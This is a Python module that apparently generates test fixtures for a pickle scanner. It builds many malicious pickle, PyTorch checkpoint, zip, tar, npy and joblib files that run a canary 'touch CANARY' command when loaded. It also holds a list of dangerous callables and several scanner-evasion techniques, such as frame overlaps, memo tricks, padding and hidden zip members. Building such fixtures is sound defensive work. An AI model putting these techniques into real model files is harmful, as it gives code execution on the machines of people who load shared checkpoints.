"""Malicious pickles, written here: every way to make loading call something, with and without real weights."""

from __future__ import annotations

import gzip
import io
import pickle
import struct
import tarfile
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path

import torch

MARK = "touch CANARY"

# Names that public scanners of pickles list, or that were found to pass one of them.
_LISTED = """
os.system os.popen os.execv os.remove posix.system posix.popen nt.system subprocess.Popen subprocess.run
subprocess.check_output subprocess.getoutput commands.getoutput builtins.eval builtins.exec builtins.compile
builtins.open builtins.__import__ builtins.getattr builtins.setattr builtins.breakpoint builtins.input builtins.print
builtins.map __builtin__.eval __builtin__.apply __builtin__.execfile sys.exit socket.create_connection
ssl.get_server_certificate shutil.rmtree shutil.copy runpy.run_path runpy._run_code runpy.run_module
importlib.import_module importlib.__import__ pty.spawn ctypes.CDLL webbrowser.open marshal.loads
code.InteractiveInterpreter.runcode pdb.run bdb.Bdb.run cProfile.run cProfile.runctx profile.run
profile.Profile.runctx trace.Trace.run timeit.timeit doctest.debug_script pydoc.pipepager pydoc.locate asyncio.run
multiprocessing.Process pickle.loads _pickle.loads pickle.Unpickler dill.loads cloudpickle.cloudpickle._make_function
joblib.load pip.main ensurepip._run_pip venv.create pkgutil.resolve_name requests.api.get aiohttp.client.ClientSession
httplib.HTTPSConnection urllib.request.urlopen http.client.HTTPSConnection smtplib.SMTP imaplib.IMAP4_stream
distutils.file_util.write_file idlelib.pyshell.ModifiedInterpreter.runcode idlelib.run.Executive.runcode
idlelib.calltip.get_entity lib2to3.pgen2.grammar.Grammar.loads uuid._get_command_stdout _osx_support._read_output
_aix_support._read_cmd_output _pyrepl.pager.pipe_pager test.support.script_helper.assert_python_ok functools.partial
functools.reduce operator.attrgetter operator.methodcaller _operator.attrgetter operator.itemgetter types.CodeType
types.FunctionType _io.FileIO io.open logging.FileHandler logging.config.listen numpy.load numpy.fromfile
numpy.testing._private.utils.runstring numpy.f2py.crackfortran.myeval numpy.f2py.crackfortran.getlincoef
numpy.f2py.diagnose.run_command numpy.distutils.exec_command.exec_command torch.load torch.serialization.load
torch.hub.load torch.hub.load_state_dict_from_url torch.jit.load torch.jit.unsupported_tensor_ops.execWrapper
torch.utils.collect_env.run torch.utils.collect_env.run_and_read_all torch.utils.cpp_extension.load
torch.utils.bottleneck.__main__.run_cprofile torch.utils.bottleneck.__main__.run_autograd_prof
torch.utils._config_module.ConfigModule.load_config torch.utils.data.datapipes.utils.decoder.basichandlers
torch.fx.experimental.symbolic_shapes.ShapeEnv.evaluate_guards_expression torch.fx.graph_module._exec_with_source
torch._dynamo.guards.GuardBuilder.get torch._inductor.codecache.compile_file torch.multiprocessing.spawn
pandas.read_pickle pandas.eval yaml.load fickling.always_check_safety picklescan.scanner.scan
"""
DANGEROUS = _LISTED.split()


def split(name: str) -> tuple[str, str]:
    """Module and attribute, where the name of the file of the module is lower case."""
    parts = name.split(".")
    known = next((i for i in range(1, len(parts)) if parts[i][0].isupper()), len(parts) - 1)
    return ".".join(parts[:known]), ".".join(parts[known:])


def text(words: str) -> bytes:
    raw = words.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def call(name: str, argument: str = MARK) -> bytes:
    """The instructions that call a name with a text; no protocol, no end."""
    module, attribute = split(name)
    return f"c{module}\n{attribute}\n".encode() + text(argument) + b"\x85R"


def weights() -> dict[str, torch.Tensor]:
    generator = torch.Generator().manual_seed(0)
    return {"a": torch.randn(4, 4, generator=generator), "b": torch.randn(8, generator=generator)}


def members(state: object) -> dict[str, bytes]:
    """The members of the zip that torch.save writes."""
    buffer = io.BytesIO()
    torch.save(state, buffer)
    with zipfile.ZipFile(buffer) as archive:
        return {n.partition("/")[2]: archive.read(n) for n in archive.namelist()}


def zipped(parts: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, data in parts.items():
            archive.writestr(f"archive/{name}", data)
    return buffer.getvalue()


def beside_weights(instructions: bytes) -> bytes:
    """A torch zip whose state dict has good weights and, under "x", the value of the instructions."""
    parts = members(weights())
    parts["data.pkl"] = parts["data.pkl"][:-1] + text("x") + instructions + b"s."
    return zipped(parts)


def _reduced(protocol: int, name: str = "torch.utils.collect_env.run") -> bytes:
    """What Python's pickle writes for an object with such a ``__reduce__``."""
    import importlib

    module, attribute = split(name)
    function = getattr(importlib.import_module(module), attribute)

    class Evil:
        def __reduce__(self) -> tuple[object, ...]:
            return function, (MARK,)

    return pickle.dumps({"lr": 1e-3, "x": Evil()}, protocol=protocol)


RUN = "torch.utils.collect_env.run"
SPACE = b"cargparse\nNamespace\n)\x81"


def ways() -> Iterator[tuple[str, bytes]]:
    """One file for every way in which a pickle can call something: its name, and its bytes."""
    run = f"c{split(RUN)[0]}\nrun\n".encode()
    for protocol in range(6):
        yield f"protocol-{protocol}.pkl", _reduced(protocol)
    yield "inst.pkl", b"(" + text(MARK) + f"i{split(RUN)[0]}\nrun\n".encode() + b"."
    yield "inst-0.pkl", b"(S'" + MARK.encode() + b"'\n" + f"i{split(RUN)[0]}\nrun\n".encode() + b"."
    yield "obj.pkl", b"(" + run + text(MARK) + b"o."
    yield "newobj.pt", beside_weights(run + text(MARK) + b"\x85\x81")
    yield "newobj-ex.pt", beside_weights(run + text(MARK) + b"\x85}\x92")
    yield "setstate.pt", beside_weights(SPACE + b"}" + text("__setstate__") + run + b"sb" + text(MARK) + b"b")
    yield "append.pt", beside_weights(SPACE + b"}" + text("append") + run + b"sb" + text(MARK) + b"a")
    yield "extend.pt", beside_weights(SPACE + b"}" + text("extend") + run + b"sb(" + text(MARK) + b"e")
    yield "class.pt", beside_weights(SPACE + b"N}" + text("__class__") + run + b"s\x86b")
    yield (
        "random-state.pt",
        beside_weights(b"cnumpy.random._pickle\n__randomstate_ctor\n" + text(MARK) + run + b"\x86R"),
    )
    yield "reconstructor.pt", beside_weights(b"ccopyreg\n_reconstructor\n(" + run + run + text(MARK) + b"tR")
    yield (
        "subclass.pt",
        beside_weights(b"ctorch._tensor\n_rebuild_from_type_v2\n(" + run + run + b"(" + text(MARK) + b"t}tR"),
    )
    yield "default.pt", beside_weights(b"ccollections\ndefaultdict\n" + run + b"\x85R")
    memo = (
        b"\x80\x04"
        + b"}"
        + b"q\0q\0"
        + run
        + b"\x94"
        + b"ccollections\nOrderedDict\nq\2"
        + b"h\1"
        + text(MARK)
        + b"\x85R."
    )
    yield "memo.pkl", memo  # two entries under one number, then one by count: machines that miscount fetch another name
    attribute = b"cbuiltins\ngetattr\n" + run + text("__call__") + b"\x86R" + text(MARK) + b"\x85R"
    yield "result.pt", beside_weights(attribute)
    yield "dotted.pkl", b"\x80\x04\x8c\x05torch\x8c\x15utils.collect_env.run\x93" + text(MARK) + b"\x85R."
    yield "popped.pt", beside_weights(call(RUN) + b"0N")
    yield "before-damage.pkl", b"\x80\x02" + call(RUN) + b"\xff\xff"
    yield "before-cut.pkl", b"\x80\x02" + call(RUN) + b"X\xff\xff\0\0abc"
    # The frame holds two bytes; a text that crosses its end hides a call from whoever reads on to the end of the text.
    hidden = b"(\x95" + struct.pack("<Q", 2) + b"B\x07\x01\0\0\0\0" + (call(RUN) + b"(").ljust(0x105, b"N") + b"1."
    yield "frame.pkl", b"\x80\x05NV" + b"a" * (8192 * 16 - 17) + b"\n0" + hidden
    inside = b"\x95" + struct.pack("<Q", 30) + b"N\x95" + struct.pack("<Q", 2) + b"N0" + call(RUN)
    yield "frame-in-frame.pkl", b"\x80\x05" + inside + b"."
    yield "second.pkl", pickle.dumps({"lr": 1.0}) + b"\x80\x02" + call(RUN) + b"."
    yield from nested()


def nested() -> Iterator[tuple[str, bytes]]:
    inner = b"\x80\x02" + call(RUN) + b"."
    raw = b"B" + struct.pack("<I", len(inner)) + inner
    yield "loads.pt", beside_weights(b"cpickle\nloads\n" + raw + b"\x85R")
    yield "from-bytes.pt", beside_weights(b"ctorch.storage\n_load_from_bytes\n" + raw + b"\x85R")
    deep = zipped({**members(weights()), "data.pkl": inner})
    packed = b"B" + struct.pack("<I", len(deep)) + deep
    yield "from-bytes-zip.pkl", b"\x80\x02ctorch.storage\n_load_from_bytes\n" + packed + b"\x85R."
    for name in ("constants.pkl", "version", ".data/serialization_id", "extra/hook.pickle", "data/99"):
        yield f"member-{name.replace('/', '-')}.pt", zipped({**members(weights()), name: inner})
    padding = b"B" + struct.pack("<I", 5 << 20) + bytes(5 << 20) + b"0"
    yield "member-far.pt", zipped({**members(weights()), "constants.pkl": b"\x80\x02" + padding + call(RUN) + b"."})
    spelled = b"(lp0\n" + b"I1\na" * 20_000 + call(RUN) + b"."
    yield "member-text.pt", zipped({**members(weights()), "extra/notes": spelled})
    parts = members(weights())
    yield "member-second.pt", zipped({**parts, "data.pkl": parts["data.pkl"] + inner})
    yield "comment.pt", zipped(parts)[:-2] + struct.pack("<H", len(inner)) + inner
    yield "other.zip", zipped({"model/config.pkl": inner})
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("archive/data.pkl", inner)
    yield "deflated.pt", buffer.getvalue()
    for kind, form in (("ustar", tarfile.USTAR_FORMAT), ("gnu", tarfile.GNU_FORMAT)):
        buffer = io.BytesIO()
        with tarfile.open(fileobj=buffer, mode="w", format=form) as tar:
            for name, data in (("storages", b"\x80\x02K\1."), ("pickle", inner)):
                info = tarfile.TarInfo(name)
                info.size = len(data)
                tar.addfile(info, io.BytesIO(data))
        yield f"{kind}.tar", buffer.getvalue()
    yield "packed.pkl.gz", gzip.compress(inner)
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header += b" " * (63 - (10 + len(header)) % 64) + b"\n"
    yield "objects.npy", b"\x93NUMPY\1\0" + struct.pack("<H", len(header)) + header + inner


def library_streams() -> dict[str, Callable[[Path], None]]:
    """Files of libraries that pickle code, or arrays between instructions, with something dangerous in them."""
    import numpy as np

    class Evil:
        def __reduce__(self) -> tuple[object, ...]:
            import os

            return os.system, (MARK,)

    def cloud(path: Path) -> None:
        import cloudpickle

        path.write_bytes(cloudpickle.dumps(lambda x: x + 1))

    def dilled(path: Path) -> None:
        import dill

        path.write_bytes(dill.dumps(lambda x: x + 1))

    def job(path: Path) -> None:
        import joblib

        joblib.dump({"w": np.ones((30, 30)), "x": Evil()}, path)

    def packed_job(path: Path) -> None:
        import joblib

        joblib.dump({"w": np.ones((30, 30)), "x": Evil()}, path, compress=3)

    def array(path: Path) -> None:
        np.save(path, np.array([Evil(), 1], dtype=object), allow_pickle=True)

    def arrays(path: Path) -> None:
        np.savez_compressed(path, a=np.array([Evil(), 1], dtype=object), allow_pickle=True)

    return {
        "cloud.pkl": cloud,
        "dill.pkl": dilled,
        "job.joblib": job,
        "packed.joblib": packed_job,
        "array.npy": array,
        "arrays.npz": arrays,
    }
